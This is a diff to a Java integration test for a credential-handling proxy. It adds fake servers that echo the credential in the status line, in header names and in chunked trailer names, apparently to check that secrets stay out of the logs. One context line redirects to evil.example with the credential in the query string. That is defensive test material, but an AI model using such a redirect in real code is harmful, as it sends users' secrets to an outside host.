@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import ch.qos.logback.classic.Level;
 import ch.qos.logback.classic.Logger;
 import dev.paddock.credential.CredentialKind;
+import dev.paddock.proxy.connect.ListenAddress;
 import dev.paddock.proxy.log.RequestLogs;
 import java.io.IOException;
 import java.lang.management.ManagementFactory;
@@ -40,6 +41,9 @@ class CanaryIT extends ProxyOnLoopback {
   /** How a server repeats what it heard. */
   enum Echo {
     IN_HEAD_AND_BODY,
+    IN_STATUS_LINE,
+    IN_HEADER_NAME,
+    IN_TRAILER_NAME,
     REFUSED,
     MOVED,
     CHUNKED,
@@ -155,6 +159,12 @@ class CanaryIT extends ProxyOnLoopback {
         Wire.header(head, "authorization").or(() -> Wire.header(head, "x-api-key")).orElse("");
     return switch (echo) {
       case IN_HEAD_AND_BODY -> full("200 OK", "X-Echo: " + credential, head);
+      case IN_STATUS_LINE -> full("200 I heard " + credential, "X-Echo: yes", "");
+      case IN_HEADER_NAME -> full("200 OK", asName(credential) + ": yes", "");
+      case IN_TRAILER_NAME ->
+          "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
+              + asName(credential)
+              + ": yes\r\n\r\n";
       case REFUSED -> full("401 Unauthorized", "WWW-Authenticate: " + credential, head);
       case MOVED -> full("302 Found", "Location: https://evil.example/?q=" + credential, head);
       case CHUNKED -> {
@@ -165,6 +175,11 @@ class CanaryIT extends ProxyOnLoopback {
       case BROKEN_OFF -> "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + head;
       case NO_HTTP -> "I heard " + credential + "\r\n" + head;
     };
+  }
+
+  /** Without what no name may have: the scheme, and the end of Base64. */
+  private static String asName(String credential) {
+    return credential.substring(credential.indexOf(' ') + 1).replace("=", "");
   }
 
   private static String full(String status, String header, String body) {
